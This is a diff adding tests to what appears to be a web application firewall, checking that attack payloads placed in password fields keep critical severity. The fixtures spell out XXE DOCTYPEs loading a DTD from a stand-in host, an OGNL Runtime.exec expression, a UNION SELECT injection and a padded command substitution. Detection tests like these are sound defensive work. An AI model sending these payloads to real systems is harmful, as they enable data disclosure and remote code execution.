@@ -148,6 +148,33 @@ describe('password fields', () => {
     }
   });
 
+  test('a password field cannot be used to blank an attack elsewhere in a SOAP document', () => {
+    // A fourth review: blanking the password's text in the whole document deleted `SYSTEM` from a DOCTYPE.
+    for (const xml of [
+      '<!DOCTYPE r SYSTEM "http://evil.example/x.dtd"><Login><Password>SYSTEM</Password></Login>',
+      '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><Login><Password>ENTITY</Password></Login>',
+    ]) {
+      const r: InspectionInput = {
+        method: 'POST',
+        path: '/soap',
+        rawQuery: '',
+        headers: { host: 'api.example.com', 'content-type': 'application/xml' },
+        body: Buffer.from(xml),
+        contentType: 'application/xml',
+        bodyComplete: true,
+      };
+      assert.equal(top(r), RANK.critical, xml);
+    }
+  });
+
+  test('code execution, a UNION SELECT and long values keep their severity in a password field', () => {
+    const s2001 = "%{(#_memberAccess['allowStaticMethodAccess']=true)(#a=@java.lang.Runtime@getRuntime().exec('id'))}";
+    assert.equal(top(json({ password: s2001 })), RANK.critical);
+    assert.ok(top(json({ password: '1 union select 1,2,3' })) >= RANK.high!);
+    // No password manager writes 200 characters: padding around a payload is judged in full.
+    assert.equal(top(json({ password: `${'a'.repeat(220)} $(HPcF$a>jjhm1B)` })), RANK.critical);
+  });
+
   test('a password that starts like a data: URL is not decoded into a copy', () => {
     const state = compileState(ruleset, config, []);
     runInspection(state, json({ password: 'data:,CorrectHorseBattery9' }));
